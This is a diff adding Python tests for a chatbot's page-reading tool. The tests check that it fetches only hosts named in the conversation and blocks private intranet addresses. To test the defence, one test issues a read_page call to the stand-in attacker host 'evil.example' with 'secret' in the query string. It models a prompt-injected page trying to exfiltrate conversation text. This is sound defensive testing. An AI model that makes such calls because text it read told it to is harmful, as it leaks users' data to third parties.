@@ -1,0 +1,116 @@
+"""read_page under the review's fixes: only hosts the conversation names (a prompt-injected
+page cannot send conversation text to a host of its choosing), and a refused address is
+"blocked" for the model, its internal DNS answer in the log only."""
+
+from __future__ import annotations
+
+import logging
+from collections.abc import AsyncIterator
+
+import pytest
+from aiohttp import web
+
+from bot.config.tool_settings import ToolSettings
+from bot.tools.page_hosts import hosts_in, hosts_named
+from bot.tools.read_page import PageReader
+from bot.tools.toolbox import Toolbox
+from conversation.articles import ArticleService, StaticResolver
+from conversation.settings import ArticleSettings
+from tests.tools.test_tools_toolbox import call
+
+OPEN = ArticleSettings(allowed_networks=["127.0.0.1/32"])
+
+
+@pytest.fixture
+async def port() -> AsyncIterator[int]:
+    """One local site answering for every host: a page linking to another host."""
+
+    async def page(request: web.Request) -> web.Response:
+        html = (
+            f"<html><head><title>{request.host}</title></head><body><article>"
+            + "<p>The next part is at http://docs.example.net/part2 for everyone.</p>" * 20
+            + "</article></body></html>"
+        )
+        return web.Response(text=html, content_type="text/html")
+
+    app = web.Application()
+    app.router.add_get("/{name}", page)
+    runner = web.AppRunner(app, shutdown_timeout=0.1)
+    await runner.setup()
+    tcp = web.TCPSite(runner, "127.0.0.1", 0)
+    await tcp.start()
+    try:
+        yield runner.addresses[0][1]
+    finally:
+        await runner.cleanup()
+
+
+def test_hosts_named_in_the_prompt() -> None:
+    messages = [
+        {"role": "system", "content": "You are a bot."},
+        {
+            "role": "user",
+            "content": [{"type": "text", "text": "see https://WWW.Wiki.example.org:8080/a"}],
+        },
+        {"role": "user", "content": "and docs.python.org, mail bob@lists.example.com"},
+    ]
+    assert hosts_named(messages) >= {"wiki.example.org", "docs.python.org", "lists.example.com"}
+    assert "evil.example" not in hosts_named(messages)
+    assert hosts_in("http://[::1]:80/x") == {"::1"}
+
+
+async def test_read_page_reads_only_hosts_the_conversation_names(port: int) -> None:
+    hosts = ["wiki.example.org", "docs.example.net", "evil.example"]
+    resolver = StaticResolver({host: ["127.0.0.1"] for host in hosts})
+    async with ArticleService(OPEN, resolver=resolver) as articles:
+        box = Toolbox(ToolSettings(enabled=True), pages=PageReader(articles))
+        answer = box.for_prompt(
+            [{"role": "user", "content": f"read http://wiki.example.org:{port}/a"}]
+        )
+        [evil] = await answer.run(
+            [call("read_page", f'{{"url": "http://evil.example:{port}/q?s=secret"}}')]
+        )
+        assert evil.status == "error" and "evil.example is not one" in evil.content
+        assert "named in this conversation" in evil.content
+        [next_part] = await answer.run(
+            [call("read_page", f'{{"url": "http://docs.example.net:{port}/b"}}')]
+        )
+        assert next_part.status == "error"  # not named yet
+        [first] = await answer.run(
+            [call("read_page", f'{{"url": "http://wiki.example.org:{port}/a"}}')]
+        )
+        assert first.status == "ok", first.detail
+        [linked] = await answer.run(
+            [call("read_page", f'{{"url": "http://docs.example.net:{port}/b"}}')]
+        )
+        assert linked.status == "ok", linked.detail  # the page read links to it
+        other = box.for_prompt([{"role": "user", "content": "hello"}])
+        [fresh] = await other.run(
+            [call("read_page", f'{{"url": "http://docs.example.net:{port}/b"}}')]
+        )
+        assert fresh.status == "error"  # another answer starts from its own prompt
+        anywhere = Toolbox(
+            ToolSettings(enabled=True, read_page_any_host=True), pages=PageReader(articles)
+        )
+        [evil] = await anywhere.for_prompt([]).run(
+            [call("read_page", f'{{"url": "http://evil.example:{port}/q"}}')]
+        )
+        assert evil.status == "ok", evil.detail
+
+
+async def test_a_refused_address_is_blocked_for_the_model_and_detailed_in_the_log(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    resolver = StaticResolver({"intranet.example.org": ["10.0.0.5"]})
+    async with ArticleService(ArticleSettings(), resolver=resolver) as articles:
+        box = Toolbox(
+            ToolSettings(enabled=True, read_page_any_host=True), pages=PageReader(articles)
+        )
+        with caplog.at_level(logging.INFO):
+            [outcome] = await box.run(
+                [call("read_page", '{"url": "http://intranet.example.org/"}')]
+            )
+    assert outcome.status == "error"
+    assert "blocked: not a public address" in outcome.content
+    assert "10.0.0.5" not in outcome.content and "10.0.0.5" not in outcome.detail
+    assert "10.0.0.5" in caplog.text
